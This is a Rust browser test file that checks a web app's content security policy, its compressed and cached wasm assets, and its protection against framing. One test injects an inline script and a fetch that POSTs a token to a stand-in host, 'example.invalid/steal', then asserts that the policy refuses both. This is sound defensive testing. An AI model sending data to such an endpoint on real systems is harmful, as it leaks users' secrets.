//! The web app and the API's docs under the content security policy, in a
//! real browser: nothing they do violates it, what it forbids is refused
//! (and the harness sees the refusal), and the app's files arrive
//! compressed and are kept by the browser.
//!
//! Every browser test fails on a violation (see `termaudit_tests::browser`);
//! these check the policy's other side.

use serde_json::{Value, json};
use termaudit_domain::Permission;
use termaudit_tests::browser::Browser;

use crate::PROJECT;
use crate::seed::Seeded;

/// The resource timing of the page's wasm: name, bytes over the wire,
/// bytes as encoded (compressed) and decoded.
const WASM_TIMING: &str = r"
const wasm = performance.getEntriesByType('resource').find((e) => e.name.endsWith('.wasm'));
return wasm ? { name: wasm.name, transfer: wasm.transferSize, encoded: wasm.encodedBodySize, decoded: wasm.decodedBodySize } : null;
";

async fn wasm_timing(browser: &Browser) -> Value {
    browser.execute(WASM_TIMING, vec![]).await
}

#[tokio::test]
async fn the_app_runs_under_the_policy_and_its_files_arrive_compressed_and_are_kept() {
    let seeded = Seeded::new().await;
    let browser = Browser::start().await;
    seeded.sign_in(&browser, &seeded.app.token("carol", PROJECT, &Permission::ALL)).await;
    for path in [
        format!("/projects/{PROJECT}/sessions"),
        seeded.session_path(&seeded.live),
        format!("/projects/{PROJECT}/policy"),
    ] {
        browser.goto(&seeded.url(&path)).await;
        browser.wait_for("main h1").await;
    }
    browser.wait_for("[data-testid=retention-next-run]").await;
    browser.assert_no_csp_violations().await;

    let cold = wasm_timing(&browser).await;
    let name = cold["name"].as_str().expect("the page loaded a wasm");
    let hash = name.rsplit_once('-').map(|(_, tail)| tail.trim_end_matches(".wasm"));
    assert!(
        hash.is_some_and(|h| h.len() == 16 && h.bytes().all(|b| b.is_ascii_hexdigit())),
        "a hashed name: {name}"
    );
    let (encoded, decoded) = (cold["encoded"].as_f64().unwrap(), cold["decoded"].as_f64().unwrap());
    assert!(encoded * 2.0 < decoded, "sent compressed (to less than half): {cold}");

    // Another visit takes the wasm from the browser's cache without asking.
    browser.goto(&seeded.url("/")).await;
    browser.wait_for(".nav-user-name").await;
    let again = wasm_timing(&browser).await;
    assert_eq!(again["transfer"], json!(0), "kept, not fetched or revalidated: {again}");
}

#[tokio::test]
async fn what_the_policy_forbids_is_refused_and_seen() {
    let seeded = Seeded::new().await;
    let browser = Browser::start().await;
    browser.goto(&seeded.url("/sign-in")).await;
    browser.wait_for("textarea#token").await;

    // An injected inline script does not run, nor does one from elsewhere.
    let ran = browser
        .execute(
            "const s = document.createElement('script');
             s.textContent = 'window.injected = true';
             document.body.append(s);
             return window.injected === true;",
            vec![],
        )
        .await;
    assert_eq!(ran, json!(false));
    let refused = browser
        .execute(
            "return fetch('http://example.invalid/steal', { method: 'POST', body: 'token' })
                 .then(() => 'sent', () => 'refused');",
            vec![],
        )
        .await;
    assert_eq!(refused, json!("refused"));
    let violations = browser.take_csp_violations().await;
    let seen = |what: &str| violations.iter().any(|v| v.contains(what));
    assert!(seen("inline script") && seen("script-src"), "{violations:#?}");
    assert!(seen("example.invalid") && seen("connect-src"), "{violations:#?}");

    // Another site cannot frame the app: the frame shows Chromium's error
    // page, not the app.
    let page = format!(
        "data:text/html,<iframe id=app src=\"{}\"></iframe>",
        seeded.url(&format!("/projects/{PROJECT}/policy"))
    );
    browser.goto(&page).await;
    let frame = browser.wait_for("iframe#app").await;
    browser.switch_to_frame(Some(&frame)).await;
    let deadline = std::time::Instant::now() + termaudit_tests::browser::WAIT;
    let shown = loop {
        let href = browser.execute("return location.href;", vec![]).await;
        let href = href.as_str().unwrap_or_default().to_owned();
        if href != "about:blank" || std::time::Instant::now() > deadline {
            break href;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    assert!(shown.starts_with("chrome-error://"), "the frame shows {shown:?}");
    assert!(browser.find_all("#app, .boot").await.is_empty(), "no app in the frame");
    browser.switch_to_frame(None).await;
}

#[tokio::test]
async fn the_api_docs_work_under_the_policy() {
    let seeded = Seeded::new().await;
    let browser = Browser::start().await;
    browser.goto(&seeded.url("/api/docs/")).await;
    browser.wait_for_text(".info .title", "termaudit").await;
    browser.wait_for("#operations-sessions-list_sessions").await;
    // Opening an operation renders its parameters and responses.
    browser.click_on("#operations-sessions-list_sessions .opblock-summary-control").await;
    browser.wait_for("#operations-sessions-list_sessions .parameters").await;
    browser.assert_no_csp_violations().await;
}
